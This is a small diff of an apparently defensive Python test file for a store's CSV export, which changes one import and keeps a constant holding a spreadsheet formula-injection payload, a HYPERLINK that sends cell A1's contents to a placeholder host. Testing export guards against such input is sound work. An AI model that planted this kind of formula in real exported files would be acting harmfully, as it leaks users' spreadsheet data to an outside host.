@@ -13,7 +13,7 @@ from rtm.decisions import Dismissed, Forgotten, Labelled, Returned
 from rtm.store.export import COLUMNS, exported, guarded
 from rtm.store.store import Store
 from tests.store.records import AT, claimed, fired, opened, refused
-from tests.store.test_audit import old
+from tests.store.tampering import old
 
 HOSTILE = '=HYPERLINK("http://x.example?q="&A1,"win")'
 
